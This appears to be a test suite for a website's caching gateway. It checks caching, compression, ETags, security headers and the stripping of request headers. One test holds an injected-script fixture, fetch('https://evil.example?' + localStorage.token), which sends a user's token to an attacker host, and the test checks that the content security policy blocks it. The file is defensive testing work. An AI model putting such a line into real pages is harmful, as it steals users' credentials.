import { createHash } from "node:crypto";
import { brotliDecompressSync, gunzipSync } from "node:zlib";
import { inlineScriptsPath, problemSchema } from "@wordlehint/contracts";
import { eventually } from "@wordlehint/test-servers";
import { useGateway } from "./support/use-gateway.ts";

const script = `window.theme = "dark"; if (1 < 2 && "</b>") {}`;
const about = `<!DOCTYPE html><html><head><script>${script}</script></head><body>${"About us. ".repeat(500)}</body></html>`;

const operatorKey = "a key that only the operators of the site know";
const hashOf = (text: string) => `sha256-${createHash("sha256").update(text).digest("base64")}`;

const { site, get, getAdmin } = useGateway(
  { PAGE_QUERY_PARAMETERS: "q", PUBLIC_ORIGIN: "https://wordlehint.example", OPERATOR_KEY: operatorKey },
  ({ show }) => show(inlineScriptsPath, { body: JSON.stringify({ hashes: [hashOf(script)] }) }),
);

beforeAll(() => site().show("/about", { body: about, headers: { "surrogate-key": "about settings" } }));

describe("a page", () => {
  it("is rendered for the first visitor and cached for the others", async () => {
    const first = await get("/about");
    const second = await get("/about");
    expect([first.status, first.text, first.headers["x-cache"]]).toEqual([200, about, "miss"]);
    expect([second.status, second.text, second.headers["x-cache"]]).toEqual([200, about, "hit"]);
    expect(site().requestCount("/about")).toBe(1);
  });

  it("is the same for every query that doesn't matter, and for every spelling of its path", async () => {
    for (const path of ["/about?utm_source=mail", "/about?fbclid=1&gclid=2", "/%61bout", "/about?"]) {
      expect((await get(path)).headers["x-cache"]).toBe("hit");
    }
    expect(site().requestCount("/about")).toBe(1);
  });

  it("is counted in the metrics by its kind, rendered or from memory", async () => {
    const count = async () => {
      const { text } = await getAdmin("/metrics");
      const [, counted] =
        /request_duration_seconds_count\{.*method="GET",route="page-data",status="200".*\} (\d+)/.exec(
          text,
        ) ?? [];
      return Number(counted ?? 0);
    };
    const path = "/page-data/about/page-data.json";
    site().show(path, { body: "{}", headers: { "content-type": "application/json" } });
    const before = await count();
    const states = [];
    for (let times = 0; times < 3; times++) states.push((await get(path)).headers["x-cache"]);
    expect(states).toEqual(["miss", "hit", "hit"]);
    await eventually(async () => expect((await count()) - before).toBe(3));
  });

  it("differs by a query that matters", async () => {
    site().show("/search?q=crane", { body: "crane" });
    site().show("/search", { body: "nothing" });
    expect((await get("/search?x=1&q=crane")).text).toBe("crane");
    expect((await get("/search?q=crane&x=2")).headers["x-cache"]).toBe("hit");
    expect((await get("/search")).text).toBe("nothing");
  });

  it("has headers for caches, purges and security", async () => {
    const { headers } = await get("/about");
    expect(headers).toMatchObject({
      "cache-control": "public, max-age=0, must-revalidate, no-transform",
      vary: "Accept-Encoding",
      "x-content-type-options": "nosniff",
      "strict-transport-security": "max-age=31536000",
    });
    expect(headers["content-security-policy"]).toBe(
      "default-src 'self'; base-uri 'none'; connect-src 'self'; font-src 'self'; form-action 'self'; " +
        "frame-ancestors 'none'; frame-src 'none'; img-src 'self' data:; object-src 'none'; " +
        `script-src https://wordlehint.example/scripts/ '${hashOf(script)}'; script-src-attr 'none'; ` +
        "style-src 'self' 'unsafe-inline'; worker-src 'self'; upgrade-insecure-requests",
    );
    expect(headers).not.toHaveProperty("x-powered-by");
  });

  it("has its surrogate keys only for who sends the operators' key, from the cache and as a 304 too", async () => {
    site().show("/keys", { body: "keys", headers: { "surrogate-key": "keys s1:a" } });
    const keysFor = async (headers: Record<string, string>) =>
      (await get("/keys", headers)).headers["surrogate-key"];
    const debug = { "surrogate-key-debug": operatorKey };
    expect(await keysFor(debug)).toBe("keys s1:a");
    expect(await keysFor(debug)).toBe("keys s1:a");
    const { etag = "", vary } = (await get("/keys")).headers;
    expect(await keysFor({ ...debug, "if-none-match": etag })).toBe("keys s1:a");
    expect(vary ?? "").not.toMatch(/surrogate/i);
    const others = [
      {},
      { "surrogate-key-debug": "1" },
      { "surrogate-key-debug": `${operatorKey}x` },
      { "if-none-match": etag },
    ];
    for (const headers of others) expect(await keysFor(headers)).toBeUndefined();
    expect(site().requestCount("/keys")).toBe(1);
  });

  it("may run no inline script but those of the build, whatever it contains", async () => {
    const foreign = "fetch('https://evil.example?' + localStorage.token)";
    const body = `${about}<script>${foreign}</script><script src="/files/wordlehint/production/a.js"></script>`;
    site().show("/attacked", { body });
    const policy = String((await get("/attacked")).headers["content-security-policy"]);
    expect(policy).toContain(`'${hashOf(script)}'`);
    expect(policy).not.toContain(hashOf(foreign));
    expect(/script-src ([^;]*);/.exec(policy)?.[1]?.split(" ")).not.toContain("'self'");
  });

  it("is sent without its body for HEAD, rendered or from memory", async () => {
    site().show("/asked-for-its-head", { body: "head" });
    const rendered = await get("/asked-for-its-head", {}, "HEAD");
    expect([rendered.status, rendered.text, rendered.headers["content-length"]]).toEqual([200, "", "4"]);
    const head = await get("/about", {}, "HEAD");
    const whole = await get("/about");
    expect(head.text).toBe("");
    const { date: _d1, ...ofHead } = head.headers;
    const { date: _d2, ...ofWhole } = whole.headers;
    expect(ofHead).toEqual(ofWhole);
  });

  it("isn't sent again to a client that has it", async () => {
    const { etag = "" } = (await get("/about")).headers;
    const again = await get("/about", { "if-none-match": etag });
    expect([again.status, again.text, again.headers.etag]).toEqual([304, "", etag]);
    expect((await get("/about", { "if-none-match": '"other"' })).status).toBe(200);
  });

  it("is sent in the encoding that the client prefers, with its own entity tag", async () => {
    const getEncoded = (accepted: string) => get("/about", { "accept-encoding": accepted });
    const br = await getEncoded("gzip, br");
    const gzip = await getEncoded("gzip;q=1, br;q=0.1");
    const plain = await getEncoded("br;q=0");
    expect(brotliDecompressSync(br.body).toString()).toBe(about);
    expect(gunzipSync(gzip.body).toString()).toBe(about);
    expect(plain.text).toBe(about);
    expect(plain.headers).not.toHaveProperty("content-encoding");
    expect(new Set([br, gzip, plain].map(({ headers }) => headers.etag)).size).toBe(3);
    for (const { headers, body } of [br, gzip, plain])
      expect(headers["content-length"]).toBe(String(body.length));
  });

  it("is compressed even for its first visitor", async () => {
    site().show("/first", { body: about });
    const first = await get("/first", { "accept-encoding": "br" });
    expect([first.headers["x-cache"], first.headers["content-encoding"]]).toEqual(["miss", "br"]);
  });

  it("that isn't found gets the site's own not-found page", async () => {
    const missing = await get("/missing");
    expect(missing.status).toBe(404);
    expect(missing.text).toContain("Not found");
    expect(missing.headers["cache-control"]).toBe("public, max-age=0, must-revalidate, no-transform");
    for (const etag of ["*", missing.headers.etag ?? ""]) {
      const again = await get("/missing", { "if-none-match": etag });
      expect([again.status, again.text]).toEqual([404, missing.text]);
    }
  });

  it("that has moved permanently redirects visitors, without the renderer's internal address", async () => {
    site().show("/old", { status: 301, headers: { location: `${site().url}/about` } });
    expect(await get("/old")).toMatchObject({ status: 301, headers: { location: "/about" } });
  });

  it("can only be read", async () => {
    for (const method of ["POST", "PUT", "DELETE", "PATCH"]) {
      const { status, headers, text } = await get("/about", {}, method);
      expect([status, headers.allow]).toEqual([405, "GET, HEAD"]);
      expect(problemSchema.parse(JSON.parse(text)).code).toBe("method_not_allowed");
    }
  });

  it.each([
    ["sets a cookie", { "set-cookie": "session=1" }],
    ["is private", { "cache-control": "private" }],
    ["is no-store", { "cache-control": "no-store" }],
  ])("that %s is never cached", async (what, headers) => {
    const path = `/${what.replaceAll(/\W/g, "-")}`;
    site().show(path, { body: "for one", headers });
    for (let times = 1; times <= 2; times++) {
      const got = await get(path);
      expect([got.text, got.headers["x-cache"], got.headers["set-cookie"]]).toEqual([
        "for one",
        "miss",
        undefined,
      ]);
      expect(site().requestCount(path)).toBe(times);
    }
  });
});

describe("what a visitor sends", () => {
  it("doesn't reach the renderer", async () => {
    site().show("/plain", { body: "plain" });
    await get("/plain", {
      cookie: "session=secret; tz=Asia/Tokyo",
      authorization: "Bearer secret",
      "x-forwarded-host": "evil.example",
      "x-forwarded-for": "1.1.1.1",
      "x-time-zone": "Mars/Olympus",
      "x-puzzle-date": "2030-01-01",
      "accept-language": "de",
      range: "bytes=0-1",
      "user-agent": "Evil/1.0",
    });
    const { headers } = site().requests.find(({ url }) => url === "/plain") ?? { headers: {} };
    expect(Object.keys(headers).sort()).toEqual([
      "accept",
      "accept-encoding",
      "connection",
      "host",
      "user-agent",
      "x-time-zone",
    ]);
    expect(JSON.stringify(headers)).not.toMatch(/evil|secret|Mars|bytes/i);
  });

  it("can't make the gateway render a cached page again", async () => {
    const before = site().requestCount("/about");
    for (const headers of [
      { "cache-control": "no-cache" },
      { pragma: "no-cache" },
      { "cache-control": "max-age=0" },
    ]) {
      expect((await get("/about", headers)).headers["x-cache"]).toBe("hit");
    }
    expect(site().requestCount("/about")).toBe(before);
  });
});
